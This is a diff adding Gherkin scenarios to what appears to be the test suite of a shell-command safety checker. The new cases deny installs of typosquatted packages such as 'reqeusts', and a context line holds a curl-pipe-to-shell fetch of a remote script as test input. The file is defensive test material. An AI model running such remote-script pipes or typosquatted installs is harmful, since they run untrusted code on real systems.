@@ -181,3 +181,17 @@ Feature: kinds of harm judged by what they do, not by how they are spelt
   Scenario: the same pipe where the line shows it stays confined
     When I check "curl -s https://x.example.test/i | sh"
     Then the verdict is sandbox
+
+  Scenario Outline: a package one letter off a well-known one is denied
+    When I check "<command>"
+    Then the verdict is deny
+
+    Examples:
+      | command                |
+      | npx typescirpt --init  |
+      | pip install reqeusts   |
+      | cargo install ripgerp  |
+
+  Scenario: a listed neighbour of a well-known name is not a typosquat
+    When I check "pip install scapy"
+    Then the verdict is sandbox
